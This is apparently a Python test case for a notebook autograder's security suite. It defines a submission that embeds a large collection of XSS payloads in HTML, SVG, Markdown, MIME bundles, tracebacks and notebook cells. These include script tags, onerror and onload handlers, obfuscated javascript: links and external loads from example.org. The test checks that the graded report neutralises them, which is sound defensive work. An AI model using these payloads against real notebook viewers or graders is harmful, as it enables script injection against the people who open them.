"""91. Brings scripts along, for whoever opens the graded notebook: in HTML, SVG, Markdown, links,
formulas, error messages and tracebacks.

Verdict: neutralised. No tag, attribute or address that runs or loads something is in it, also when
rich outputs are kept. The wrong answer earns nothing.
"""

from typing import Any

from hostile import Attack

LIVE = r"""
<script>alert(1)</script><ScRiPt src=//example.org/x.js></script><svg onload=alert(2)></svg>
<img src=x onerror=alert(4)><img src="https://example.org/seen.png"><iframe srcdoc="<script>5">
<a href="javascript:alert(6)">a</a><a href="java&#9;script:alert(7)">b</a>
<details ontoggle=alert(8) open><math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=x onerror=alert(9)&gt;"><style>@import "https://example.org"</style>
<link rel=stylesheet href=//example.org><base href=//x><meta http-equiv=refresh content="0;url=//x">
<form action=//example.org><input autofocus onfocus=1></form><p style="background:url(//x)">
<object data=x></object><embed src=x><video src=//example.org autoplay><body onload=alert(1)>

[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](javascr&#105;pt:alert(1))
[d](javascript\:alert(1)) [e](<javascript:alert(1)>) <javascript:alert(1)>
[f](data:text/html,<script>alert(1)</script>) [g](javascript&colon;alert(1)) [h](vbscript:msgbox(1))
[i][k] [j](\javascript:alert(1)) [m](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
![n](https://example.org/seen.png) ![o][q]

[q]: https://example.org/seen.png
[k]: javascript:alert(1)
[l]:
  <javascript:alert(1)>

$x<img src=x onerror=alert(1)>$ `<img src=x onerror=alert(1)>` \<script>alert(1)</script>

```mermaid
graph LR; A["<img src=x onerror=alert(1)>"]
```

``` "><img/src=x/onerror=alert(1)>
```

# <b onclick=alert(1)>heading</b> {onclick=alert(1)}

| <img src=x onerror=alert(1)> |
|---|
| [x](javascript:alert(1)) |

[^1] &lt;script&gt; &#60;script>alert(1)&#60;/script>

[^1]: <script>alert(1)</script>
"""

SHOW = f"""
LIVE = {LIVE!r}
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, IFrame, Image, display
import sys
display(HTML(LIVE)), display(Markdown(LIVE)), display(Latex(LIVE)), display(Javascript("alert(1)"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'></svg>"))
display(IFrame("https://example.org", 9, 9), Image(url="https://example.org/seen.png"))
kinds = ["application/javascript", "application/vnd.jupyter.widget-view+json", "image/svg+xml",
         "application/vnd.plotly.v1+json", "application/pdf", "text/x-live", "application/json"]
display({{kind: LIVE for kind in kinds}} | {{"text/plain": LIVE, "image/png": LIVE}}, raw=True)
display({{"text/html": [LIVE]}}, {{"image/png": "x' onerror='alert(1)"}}, raw=True,
        metadata={{"image/png": {{"width": "1' onerror='alert(1)"}}}})
class Live:
    def __repr__(self): return LIVE
    def _repr_html_(self): return LIVE
    def _repr_mimebundle_(self, **kwargs): return {{"text/html": LIVE, "text/markdown": LIVE}}
display(Live())
print(LIVE), print(LIVE, file=sys.stderr)
exec("raise type(LIVE[:200], (Exception,), {{}})(LIVE)")
"""


def change(notebook: dict[str, Any]) -> None:
    for cell in notebook["cells"]:
        if cell["cell_type"] == "markdown":
            cell["source"] = LIVE
            cell["attachments"] = {"a.svg": {"image/svg+xml": "<svg onload=alert(1)>"}}
    for kind in ("markdown", "raw"):
        own = {"cell_type": kind, "id": kind, "metadata": {"raw_mimetype": "text/html"}}
        notebook["cells"] += [own | {"source": LIVE}, own | {"source": list(LIVE)}]


ATTACK = Attack(
    first=SHOW,
    answers={"truncate": f"def truncate(A, k):\n    raise ValueError({LIVE!r})"},
    change=change,
    rich=True,
    earns={"truncate": 0},
    reports=("Your code raised ValueError", "cell added by the student ended with <script>"),
    outputs=("'text/html'", "'text/markdown'"),
    drops=("raw_mimetype", "attachments"),
)
